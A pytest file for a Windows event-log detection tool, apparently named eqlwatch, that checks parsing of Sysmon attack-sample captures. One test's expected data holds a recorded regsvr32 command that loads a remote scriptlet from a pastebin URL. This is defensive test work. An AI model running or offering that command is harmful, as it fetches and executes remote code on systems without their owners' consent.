"""Real captures (tests/data): EVTX reading and the facts its README teaches."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from eqlwatch.errors import DataError
from eqlwatch.sysmon import detect_format, read_windows_events

EVTX = "evtx-attack-samples/evtx"
NDJSON = "evtx-attack-samples/ndjson"
EVTX_FILES = [
    "Execution/exec_sysmon_lobin_regsvr32_sct",
    "Execution/exec_sysmon_1_lolbin_renamed_regsvr32_scrobj",
    "Execution/exec_sysmon_1_7_jscript9_defense_evasion",
    "Persistence/sysmon_1_persist_bitsjob_SetNotifyCmdLine",
    "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01",
    "AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript",
]


def _docs(path: Path, fmt: str = "auto") -> list[dict[str, Any]]:
    errors: list[DataError] = []
    docs = [e.source for e in read_windows_events(path, fmt, on_error=errors.append)]
    assert errors == []
    return docs


def _ts(doc: dict[str, Any]) -> datetime:
    return datetime.fromisoformat(doc["@timestamp"].replace("Z", "+00:00"))


def _starts(docs: list[dict[str, Any]]) -> Iterator[dict[str, Any]]:
    return (d for d in docs if d["event"]["code"] == "1")


@pytest.mark.parametrize("name", EVTX_FILES)
def test_evtx_reads_the_same_events_as_its_ndjson_export(data_dir: Path, name: str) -> None:
    evtx = data_dir / EVTX / f"{name}.evtx"
    assert detect_format(evtx) == "evtx"
    from_evtx = _docs(evtx)
    from_json = _docs(data_dir / NDJSON / f"{name}.ndjson.gz", "evtx-json")
    assert len(from_evtx) > 0
    assert sorted(from_evtx, key=repr) == sorted(from_json, key=repr)


def test_evtx_events_go_to_the_sysmon_data_stream_with_stable_ids(data_dir: Path) -> None:
    path = data_dir / EVTX / f"{EVTX_FILES[0]}.evtx"
    first = list(read_windows_events(path))
    again = list(read_windows_events(path))
    assert [e.id for e in first] == [e.id for e in again]
    assert len({e.id for e in first}) == len(first)
    assert {e.index for e in first} == {"logs-windows.sysmon_operational-default"}


def test_regsvr32_connection_joins_its_process_start_by_entity_id(data_dir: Path) -> None:
    docs = _docs(data_dir / EVTX / f"{EVTX_FILES[0]}.evtx")
    start = next(d for d in _starts(docs) if d["process"]["name"] == "regsvr32.exe")
    conn = next(d for d in docs if d["event"]["code"] == "3")
    assert conn["process"]["entity_id"] == start["process"]["entity_id"]
    assert start["process"]["entity_id"].startswith("{")
    assert conn["destination"] == {"ip": "104.20.208.21", "port": 80}
    assert start["process"]["args"] == [
        "regsvr32.exe",
        "/u",
        "/s",
        "/i:http://pastebin.com/raw/H4A4iDTA",
        "scrobj.dll",
    ]


@pytest.mark.parametrize(
    ("name", "skew_seconds"),
    [(EVTX_FILES[0], 0.677), (EVTX_FILES[4], 3.153)],
)
def test_clock_skew_is_kept_not_fixed(data_dir: Path, name: str, skew_seconds: float) -> None:
    """The connection's UtcTime is earlier than its process start; @timestamp says so."""
    docs = _docs(data_dir / EVTX / f"{name}.evtx")
    starts = {d["process"]["entity_id"]: d for d in _starts(docs)}
    skews = [
        (_ts(starts[d["process"]["entity_id"]]) - _ts(d)).total_seconds()
        for d in docs
        if d["event"]["code"] == "3" and d["process"]["entity_id"] in starts
    ]
    assert any(abs(s - skew_seconds) < 0.001 for s in skews)


@pytest.mark.parametrize("name", [EVTX_FILES[2], EVTX_FILES[3]])
def test_bits_launched_regsvr32_without_exe_token(data_dir: Path, name: str) -> None:
    docs = _docs(data_dir / EVTX / f"{name}.evtx")
    start = next(d for d in _starts(docs) if d["process"]["name"] == "regsvr32.exe")
    assert start["process"]["command_line"].lstrip().startswith("/u")
    assert start["process"]["args"][:2] == ["/u", "/s"]
    assert start["process"]["args"][-1] == "scrobj.dll"
    assert start["process"]["args_count"] == 4
    assert start["process"]["parent"]["name"].lower() == "svchost.exe"


def test_renamed_regsvr32_keeps_its_pe_description_and_hash(data_dir: Path) -> None:
    docs = _docs(data_dir / EVTX / f"{EVTX_FILES[1]}.evtx")
    renamed = next(d for d in _starts(docs) if d["process"]["name"] == "jabber.exe")
    assert renamed["process"]["executable"] == "C:\\ProgramData\\jabber.exe"
    assert renamed["process"]["pe"]["description"] == "Microsoft(C) Register Server"
    assert "original_file_name" not in renamed["process"]["pe"]
    regsvr32 = next(d for d in _starts(_docs(data_dir / EVTX / f"{EVTX_FILES[0]}.evtx")))
    assert regsvr32["process"]["name"] == "regsvr32.exe"
    assert renamed["process"]["hash"]["sha256"] == regsvr32["process"]["hash"]["sha256"]
    assert regsvr32["process"]["pe"]["description"] == renamed["process"]["pe"]["description"]


def test_image_loads_carry_dll_fields_and_library_category(data_dir: Path) -> None:
    docs = _docs(data_dir / EVTX / f"{EVTX_FILES[5]}.evtx")
    loads = [d for d in docs if d["event"]["code"] == "7"]
    scrobj = [d for d in loads if d["dll"]["name"].lower() == "scrobj.dll"]
    assert scrobj
    for d in scrobj:
        assert d["event"]["category"] == ["process", "library"]
        assert d["dll"]["path"] == d["file"]["path"]
        assert d["process"]["entity_id"].startswith("{")


def test_eqllib_array_with_bom_reads_every_event(data_dir: Path) -> None:
    path = data_dir / "eqllib-atomic/sysmon-atomic-red-team.json.gz"
    assert detect_format(path) == "eventdata-array"
    events = list(read_windows_events(path))
    assert len(events) == 19882
    assert len({e.id for e in events}) == len(events)
    conn = [
        e.source
        for e in events
        if e.source["event"]["code"] == "3"
        and e.source.get("destination", {}).get("ip") == "151.101.48.133"
    ]
    assert conn
    assert all(c["network"]["direction"] == "egress" for c in conn)
    guids = {e.source.get("process", {}).get("entity_id") for e in events} - {None}
    assert len(guids) > 100
    assert all(g == g.upper() and g.startswith("{") and g.endswith("}") for g in guids)


def test_all_ndjson_exports_read_without_errors(data_dir: Path) -> None:
    events = list(read_windows_events(data_dir / NDJSON, "evtx-json"))
    assert len(events) == 8255
    sysmon = [e for e in events if e.index == "logs-windows.sysmon_operational-default"]
    other = [e for e in events if e.index == "logs-windows.forwarded-default"]
    assert len(sysmon) + len(other) == len(events)
    assert sysmon
    assert other
    assert all("host" in e.source and "@timestamp" in e.source for e in events)
